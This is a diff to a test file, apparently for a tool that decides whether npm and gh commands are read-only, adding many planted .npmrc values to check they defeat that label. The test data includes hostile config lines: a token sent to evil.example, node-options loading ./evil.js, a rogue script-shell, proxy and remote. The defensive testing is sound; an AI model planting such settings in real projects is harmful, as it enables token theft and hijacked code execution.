@@ -307,7 +307,28 @@ test("what the project says bends a service, and it is not proven", async () => 
   expect(await view("npm view x")).not.toBe("readOnly");
   here.write(".npmrc", "//evil.example/:_authToken=${GITHUB_TOKEN}\n");
   expect(await view("npm outdated")).not.toBe("readOnly");
-  here.write(".npmrc", "save-exact=true\n");
+  for (const planted of [
+    ...["logs-dir=../../out", "cache=/var/tmp/x", "node-options=--require ./evil.js", "script-shell=./evil.sh"],
+    ...[
+      "prefix=/opt",
+      "userconfig=./other",
+      "globalconfig=./other",
+      "git=./evil",
+      "editor=./evil",
+      "; x\nviewer = ./e",
+    ],
+    ...["workspaces = true\nlogs-dir[]=x", "[s]\ncache=x", "${X}=1", "proxy=http://evil.example", "cafile=x"],
+    ...["onload-script=./e.js", "init-module=./e.js", "shell=./e", "\rcache=x", "\uFEFFcache=x", "tmp=/var/tmp/y"],
+  ]) {
+    here.write(".npmrc", `${planted}\n`);
+    for (const command of ["npm ls", "npm view x", "npm outdated", "npm list --depth 0", "npm --version"])
+      expect(`${planted}: ${await view(command)}`).not.toContain("readOnly");
+  }
+  here.write(".npmrc", "");
+  here.write("../.npmrc", "cache=/var/tmp/x\n");
+  expect(await view("npm ls")).not.toBe("readOnly");
+  here.write("../.npmrc", "");
+  here.write(".npmrc", "; ours\nsave-exact=true\nfund = false\n");
   expect(await view("npm view x")).toBe("readOnly");
   expect(await view("gh pr view 1")).toBe("readOnly");
   execFileSync("git", ["remote", "add", "up", "https://evil.example/a/b.git"], { cwd: here.root });
